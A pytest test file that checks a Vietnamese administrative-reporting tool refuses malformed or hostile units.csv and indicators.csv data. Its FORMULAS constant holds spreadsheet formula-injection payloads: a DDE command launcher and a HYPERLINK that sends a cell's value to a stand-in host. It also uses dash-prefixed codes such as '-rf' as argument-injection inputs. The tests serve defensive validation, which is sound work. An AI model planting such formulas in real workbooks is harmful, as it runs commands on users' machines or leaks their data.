"""Issue 16, the catalogue side: hostile units.csv and indicators.csv (and the texts they put into the
entry workbook), each built here, each one clear message naming the file, row and column, a non-zero exit
from `validate` and `run`, and no traceback, no hang, no wrong figure."""

import datetime as dt

import pytest
from conftest import cli, csv_rows, write_data

UNITS_HEADER = "code,name_vi,name_en,level,parent,valid_from,valid_to,successor\n"
PROVINCE = "10,Tỉnh Thử,Test Province,province,,,,\n"
GOOD = csv_rows("10,dossiers_received,100,", "10,dossiers_received_online,60,")


def no_traceback(r):
    assert "Traceback" not in r.stdout + r.stderr, r.stdout + r.stderr


def refused(tmp_path, data, *expected, lang="en", commands=("validate", "run")):
    """Each command exits non-zero, without a traceback, with every ``expected`` text in its output."""
    for command in commands:
        extra = ("--period", "2023-10", "--out", str(tmp_path / "out")) if command == "run" else ()
        r = cli(command, "--data-dir", str(data), "--lang", lang, *extra, cwd=tmp_path)
        out = r.stdout + r.stderr
        assert r.returncode != 0, out
        no_traceback(r)
        for text in expected:
            assert text in out, out
    assert not (tmp_path / "out" / "index.html").exists()


def units_data(tmp_path, *rows: str, periods=None):
    return write_data(tmp_path, periods or {"2023-10.csv": GOOD}, units=UNITS_HEADER + PROVINCE + "".join(rows))


# -- units.csv ---------------------------------------------------------------------------------------
def test_unit_code_of_300_characters_is_refused_naming_the_row(tmp_path):
    data = units_data(tmp_path, f"{'X' * 300},Xã Dài,Long Commune,commune,10,,,\n")
    refused(tmp_path, data, "units.csv, row 3, column code", "300 characters", "at most 40")


@pytest.mark.parametrize("code", ["-rf", "--unit", "-10"])
def test_a_unit_code_starting_with_a_dash_is_refused(tmp_path, code):
    """It would read as an option on a command line (cchc-report run --unit -10)."""
    data = units_data(tmp_path, f"{code},Xã,Commune,commune,10,,,\n")
    refused(tmp_path, data, "units.csv, row 3, column code", f"unit code {code!r} is not valid", commands=("validate",))


def test_a_chain_of_400_successors_is_walked_without_recursion(tmp_path):
    """X0 ends 2022-12-31; X1 … X398 last one day each; X399 from 2024-02-04 on. February 2024's figure
    last year is X59's (2023-02-28), 340 versions back."""
    rows = ["X0,Xã 0,X0,commune,10,,2022-12-31,X1\n"]
    first = dt.date(2023, 1, 1)
    for i in range(1, 400):
        day = first + dt.timedelta(days=i - 1)
        end, successor = ("", "") if i == 399 else (day, f"X{i + 1}")
        rows.append(f"X{i},Xã {i},X{i},commune,10,{day},{end},{successor}\n")
    assert rows[59].split(",")[5:7] == ["2023-02-28", "2023-02-28"]
    data = units_data(tmp_path, *rows, periods={
        "2023-02.csv": csv_rows("X59,dossiers_received,80,", "X59,dossiers_received_online,20,"),
        "2024-02.csv": csv_rows("X399,dossiers_received,100,", "X399,dossiers_received_online,60,")})
    from helpers.figures import compute_figures
    from helpers.load import load_data
    ds = load_data(data)
    assert [u.code for u in ds.units.descendants("10")][:3] == ["X0", "X1", "X2"]
    rate = compute_figures(ds, "X399", "2024-02")["online_submission_rate"]
    assert rate.value == 60 and rate.last_year.value == 25
    r = cli("validate", "--data-dir", str(data), "--period", "2024-02", cwd=tmp_path)
    assert r.returncode == 0, r.stdout + r.stderr
    no_traceback(r)


def test_a_successor_cycle_is_an_error_naming_both_rows(tmp_path):
    data = units_data(tmp_path, "X1,Xã 1,X1,commune,10,,,X2\n", "X2,Xã 2,X2,commune,10,,,X1\n")
    refused(tmp_path, data, "units.csv, row 3, column successor", "X1 → X2 → X1", "rows 3, 4")


def test_a_successor_named_twice_or_the_unit_itself_is_refused(tmp_path):
    """A;A made the unit look split (its figures not comparable); X1 → X1 went round for ever."""
    data = units_data(tmp_path, "A,Xã A,A,commune,10,,2025-06-30,N;N\n", "N,Xã N,N,commune,10,2025-07-01,,\n")
    refused(tmp_path, data, "units.csv, row 3, column successor", "names N twice", commands=("validate",))
    data = units_data(tmp_path / "own", "X1,Xã 1,X1,commune,10,,,X1\n")
    refused(tmp_path / "own", data, "units.csv, row 3, column successor", "(X1 → X1)", commands=("validate",))


def test_a_year_before_1900_is_an_error_not_a_live_unit(tmp_path):
    """0205-06-30 (for 2025-06-30) compared as text above 2023-10 and kept the unit alive."""
    data = write_data(tmp_path, {"2023-10.csv": GOOD},
                      units=UNITS_HEADER + "10,Tỉnh Thử,Test Province,province,,,0205-06-30,\n")
    refused(tmp_path, data, "units.csv, row 2, column valid_to", "'0205-06-30'", "before the year 1900")
    refused(tmp_path, data, "dòng 2, cột valid_to", "trước năm 1900", lang="vi", commands=("validate",))


def test_a_year_after_2100_is_an_error_not_an_overflow(tmp_path):
    """9999-12-31 with a successor overflowed the day after it (OverflowError); 2205 for 2025 is a typo."""
    data = units_data(tmp_path, "X1,Xã 1,X1,commune,10,,9999-12-31,X2\n", "X2,Xã 2,X2,commune,10,,,\n")
    refused(tmp_path, data, "units.csv, row 3, column valid_to", "'9999-12-31'", "after the year 2100",
            "leave valid_to empty", commands=("validate",))


@pytest.mark.parametrize("column, character", [("name_vi", "\u202e"), ("name_en", "\u2066"), ("name_vi", "\x07"),
                                               ("source", "\u200f")])
def test_bidi_and_control_characters_in_a_unit_name_are_refused(tmp_path, column, character):
    names = {"name_vi": "Xã Một", "name_en": "One Commune", "source": "list"}
    names[column] = names[column][:3] + character + names[column][3:]
    data = write_data(tmp_path, {"2023-10.csv": GOOD}, units=UNITS_HEADER.rstrip("\n") + ",source\n"
                      + PROVINCE.rstrip("\n") + ",\n" + f"X1,{names['name_vi']},{names['name_en']},commune,10,,,,"
                      f"{names['source']}\n")
    refused(tmp_path, data, f"units.csv, row 3, column {column}", f"U+{ord(character):04X}",
            commands=("validate",))


# -- indicators.csv ----------------------------------------------------------------------------------
def shipped_row(code: str) -> dict:
    import csv

    from helpers.catalogue import builtin_catalogue_path
    with builtin_catalogue_path().open(encoding="utf-8") as fh:
        return next(row for row in csv.DictReader(fh) if row["code"] == code)


def catalogue_data(tmp_path, *rows: dict):
    """A data folder whose indicators.csv holds ``rows`` (dicts of the shipped catalogue's columns)."""
    import csv
    import io
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(shipped_row("dossiers_received")), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return write_data(tmp_path, {"2023-10.csv": GOOD}, units=UNITS_HEADER + PROVINCE,
                      extra={"indicators.csv": out.getvalue()})


def new_ratio(code: str, numerator: str, denominator: str) -> dict:
    return {**shipped_row("online_submission_rate"), "code": code, "numerator": numerator,
            "denominator": denominator}


def catalogue_refused(tmp_path, data, row: int, column: str, *expected, commands=("validate",)):
    """load_catalogue names the row and column of the data folder's indicators.csv; the commands exit
    non-zero without a traceback, saying what is wrong."""
    from helpers.catalogue import load_catalogue
    from helpers.errors import CatalogueError
    with pytest.raises(CatalogueError) as exc:
        load_catalogue(data)
    err = exc.value
    assert (err.file, err.row, err.column) == (str(data / "indicators.csv"), row, column), err.text("en")
    for text in expected:
        assert text in err.text("en"), err.text("en")
    for command in commands:
        extra = ("--period", "2023-10", "--out", str(tmp_path / "out")) if command == "run" else ()
        r = cli(command, "--data-dir", str(data), "--lang", "en", *extra, cwd=tmp_path)
        assert r.returncode != 0, r.stdout + r.stderr
        no_traceback(r)
        shown = r.stdout + r.stderr
        assert all(text in shown for text in (f"indicators.csv, row {row}, column {column}", *expected)), shown


@pytest.mark.parametrize("value", ["-3", "100000000", "1.5", "two", "7"])
def test_decimals_must_be_a_small_whole_number(tmp_path, value):
    """-3 printed 34.000 for 34.052; 100000000 ran out of memory."""
    data = catalogue_data(tmp_path, {**shipped_row("dossiers_received"), "decimals": value})
    catalogue_refused(tmp_path, data, 2, "decimals", f"decimals '{value}' is not valid", "from 0 to 6",
                      commands=("validate", "run") if value == "100000000" else ("validate",))


def test_an_input_of_a_ratio_redefined_as_a_ratio_is_refused(tmp_path):
    """dossiers_received = online / online gave 165,79% online submission."""
    row = {**new_ratio("dossiers_received", "dossiers_received_online", "dossiers_received_online"),
           "name_vi": "Hồ sơ", "name_en": "Dossiers"}
    data = catalogue_data(tmp_path, shipped_row("dossiers_received_online"), row)
    catalogue_refused(tmp_path, data, 3, "kind", "dossiers_received has kind 'count' in the shipped catalogue",
                      commands=("validate", "run"))


def test_a_new_ratio_of_a_ratio_is_refused(tmp_path):
    data = catalogue_data(tmp_path, new_ratio("ty_le_moi", "online_submission_rate", "dossiers_received"))
    catalogue_refused(tmp_path, data, 2, "numerator", "online_submission_rate is itself a ratio")


def test_a_ratio_whose_numerator_is_itself_is_refused(tmp_path):
    data = catalogue_data(tmp_path, new_ratio("ty_le_moi", "ty_le_moi", "dossiers_received"))
    catalogue_refused(tmp_path, data, 2, "numerator", "the ratio ty_le_moi takes ty_le_moi")


def test_two_ratios_naming_each_other_are_refused(tmp_path):
    data = catalogue_data(tmp_path, new_ratio("ty_le_a", "dossiers_received", "ty_le_b"),
                          new_ratio("ty_le_b", "ty_le_a", "dossiers_received"))
    catalogue_refused(tmp_path, data, 2, "denominator", "the ratio ty_le_a takes ty_le_b")


def test_a_parts_cycle_is_refused(tmp_path):
    count = shipped_row("dossiers_received")
    data = catalogue_data(tmp_path, {**count, "code": "so_a", "parts_of": "so_b"},
                          {**count, "code": "so_b", "parts_of": "so_a"})
    catalogue_refused(tmp_path, data, 2, "parts_of", "(so_a → so_b → so_a)")
    data = catalogue_data(tmp_path / "own", {**count, "code": "so_a", "parts_of": "so_a"})
    catalogue_refused(tmp_path / "own", data, 2, "parts_of", "(so_a → so_a)")


@pytest.mark.parametrize("column, now", [("kind", "count"), ("aggregation", "sum")])
def test_a_ratio_made_a_count_is_refused_instead_of_emptying(tmp_path, column, now):
    row = {**shipped_row("online_submission_rate"), column: now, "numerator": "", "denominator": "",
           "capped": ""}
    if column == "kind":
        row["aggregation"] = "sum"
    data = catalogue_data(tmp_path, row)
    catalogue_refused(tmp_path, data, 2, "kind" if column == "kind" else "aggregation",
                      "online_submission_rate has", "'ratio' in the shipped catalogue")


@pytest.mark.parametrize("column, character", [("name_en", "\u202e"), ("target_text", "\x1b")])
def test_a_control_character_in_an_indicator_text_is_refused(tmp_path, column, character):
    row = shipped_row("dossiers_received")
    row[column] = (row[column] or "abc")[:3] + character + (row[column] or "abc")[3:]
    data = catalogue_data(tmp_path, row)
    catalogue_refused(tmp_path, data, 2, column, f"U+{ord(character):04X}")


def test_a_nul_byte_in_the_catalogue_is_refused_like_in_any_csv_file(tmp_path):
    """indicators.csv is decoded by the one CSV reader: a NUL byte (a binary or UTF-16 file) names its line."""
    row = shipped_row("dossiers_received")
    row["name_vi"] = row["name_vi"][:3] + "\x00" + row["name_vi"][3:]
    refused(tmp_path, catalogue_data(tmp_path, row), "indicators.csv, row 2", "NUL", commands=("validate",))


# -- formula injection into the entry workbook -------------------------------------------------------
FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?"&D5, "Bấm vào đây")', "+1+1", "-2+3",
            "@SUM(1,2)")


def test_names_that_look_like_formulas_are_written_as_text(tmp_path):
    """Names from units.csv and indicators.csv became live formulas in the workbook `template` writes."""
    import csv
    import io
    import zipfile

    import openpyxl
    units = io.StringIO()
    csv.writer(units, lineterminator="\n").writerows(
        [f"X{i}", name, name, "commune", "10", "", "", ""] for i, name in enumerate(FORMULAS))
    row = {**shipped_row("dossiers_received"), "name_vi": FORMULAS[1], "name_en": FORMULAS[0]}
    data = catalogue_data(tmp_path, row)
    (data / "units.csv").write_text(UNITS_HEADER + PROVINCE + units.getvalue(), encoding="utf-8")
    from helpers.units import read_units
    assert [u.name_vi for u in read_units(data / "units.csv")][1:] == list(FORMULAS)
    r = cli("template", "2023-11", "--data-dir", str(data), cwd=tmp_path)
    assert r.returncode == 0, r.stdout + r.stderr
    book = data / "periods" / "2023-11.xlsx"
    with zipfile.ZipFile(book) as z:
        assert not any("<f>" in z.read(n).decode() or "<f " in z.read(n).decode()
                       for n in z.namelist() if n.startswith("xl/worksheets/"))
    wb = openpyxl.load_workbook(book)
    texts = {c.value: c.data_type for ws in wb.worksheets for r in ws.iter_rows() for c in r
             if isinstance(c.value, str)}
    for name in FORMULAS:
        assert texts.get(name) == "s", (name, texts.get(name))
    assert not [v for v, kind in texts.items() if kind == "f"]


def test_a_chain_of_400_parents_is_refused_where_a_parent_is_not_a_level_above(tmp_path):
    """Commune under commune under … 400 deep ended in a RecursionError summing the province."""
    rows = [f"C{i},Xã {i},C{i},commune,{'C%d' % (i - 1) if i else '10'},,,\n" for i in range(400)]
    data = units_data(tmp_path, *rows)
    refused(tmp_path, data, "units.csv, row 4, column parent", "unit C1 (commune) has the parent C0",
            "not a level above it (commune)")


@pytest.mark.parametrize("column, value", [("target", "NaN"), ("target", "Infinity"), ("target", "1e100000000"),
                                           ("target", "1e-100000000"), ("min", "sNaN")])
def test_a_target_or_bound_that_is_no_sane_number_is_refused(tmp_path, column, value):
    """A NaN target passed and failed every comparison at run time (decimal.InvalidOperation)."""
    row = shipped_row("online_submission_rate")
    if column == "min":                  # not a column of the shipped catalogue: added at the end
        data = catalogue_data(tmp_path, row)
        text = data.joinpath("indicators.csv").read_text(encoding="utf-8").splitlines()
        data.joinpath("indicators.csv").write_text(f"{text[0]},min\n{text[1]},{value}\n", encoding="utf-8")
    else:
        data = catalogue_data(tmp_path, {**row, column: value})
    catalogue_refused(tmp_path, data, 2, column, repr(value))


def test_a_name_too_long_for_a_title_or_an_excel_cell_is_refused(tmp_path):
    data = units_data(tmp_path, f"X1,Xã {'A' * 40000},X1,commune,10,,,\n")
    refused(tmp_path, data, "units.csv, row 3, column name_vi", "40003 characters long", "at most 300",
            commands=("validate",))
    row = {**shipped_row("dossiers_received"), "name_en": "B" * 301}
    catalogue_refused(tmp_path / "catalogue", catalogue_data(tmp_path / "catalogue", row), 2, "name_en",
                      "301 characters long")


def test_a_misspelt_or_repeated_column_is_refused_instead_of_read_as_nothing(tmp_path):
    """valid_too (for valid_to) kept a unit alive for ever; decimal (for decimals) printed no decimals."""
    data = write_data(tmp_path, {"2023-10.csv": GOOD}, units="code,name_vi,name_en,level,parent,valid_too\n"
                      "10,Tỉnh Thử,Test Province,province,,2023-06-30\n")
    refused(tmp_path, data, "units.csv, row 1, column valid_too", "column 'valid_too' is not one of the columns",
            commands=("validate",))
    data = write_data(tmp_path / "twice", {"2023-10.csv": GOOD}, units="code,name_vi,name_en,level,parent,parent\n"
                      "10,Tỉnh Thử,Test Province,province,,\n")
    refused(tmp_path / "twice", data, "units.csv, row 1, column parent", "appears twice", commands=("validate",))
    row = shipped_row("online_submission_rate")
    data = catalogue_data(tmp_path / "catalogue", row)
    text = data.joinpath("indicators.csv").read_text(encoding="utf-8").replace(",decimals,", ",decimal,", 1)
    data.joinpath("indicators.csv").write_text(text, encoding="utf-8")
    catalogue_refused(tmp_path / "catalogue", data, 1, "decimal", "column 'decimal' is not one of the columns")


def test_long_chains_of_parents_or_successors_are_checked_without_a_hang(tmp_path):
    """Each check walks each unit once: 20 000 rows in one chain are refused (parents) or accepted
    (successors) at once, never after minutes."""
    import subprocess
    import sys
    chain = [f"C{i},Xã {i},C{i},commune,{'C%d' % (i - 1) if i else '10'},,,\n" for i in range(20000)]
    first = dt.date(2000, 1, 1)
    successors = [f"S{i},Xã {i},S{i},commune,10,{first + dt.timedelta(days=i) if i else ''},"
                  f"{first + dt.timedelta(days=i) if i < 19999 else ''},{'S%d' % (i + 1) if i < 19999 else ''}\n"
                  for i in range(20000)]
    for name, rows, code in (("parents", chain, 1), ("successors", successors, 0)):
        data = units_data(tmp_path / name, *rows)
        r = subprocess.run([sys.executable, "-m", "helpers.cli", "validate", "--data-dir", str(data), "--lang", "en"],
                           cwd=tmp_path, capture_output=True, text=True, timeout=120)
        assert r.returncode == code, r.stdout + r.stderr
        no_traceback(r)


def test_a_numerator_part_named_twice_is_refused(tmp_path):
    data = catalogue_data(tmp_path, new_ratio("ty_le_moi", "dossiers_received_online+dossiers_received_online",
                                              "dossiers_received"))
    catalogue_refused(tmp_path, data, 2, "numerator", "names dossiers_received_online twice")


def test_a_quoted_name_over_two_lines_does_not_shift_a_later_error_in_the_catalogue(tmp_path):
    """The error names the line the file shows (4), not the record's number (3)."""
    first = {**shipped_row("dossiers_received"), "name_vi": shipped_row("dossiers_received")["name_vi"] + "\n"}
    data = catalogue_data(tmp_path, first, {**shipped_row("online_submission_rate"), "decimals": "-3"})
    assert data.joinpath("indicators.csv").read_text(encoding="utf-8").count("\n") == 4     # 3 rows, 4 lines
    catalogue_refused(tmp_path, data, 4, "decimals", "'-3'")


def test_a_catalogue_that_is_not_utf8_is_named_like_any_csv_file(tmp_path):
    data = catalogue_data(tmp_path, shipped_row("dossiers_received"))
    text = data.joinpath("indicators.csv").read_text(encoding="utf-8")
    data.joinpath("indicators.csv").write_bytes(text.encode("utf-16"))
    refused(tmp_path, data, "indicators.csv", "UTF-16", commands=("validate",))
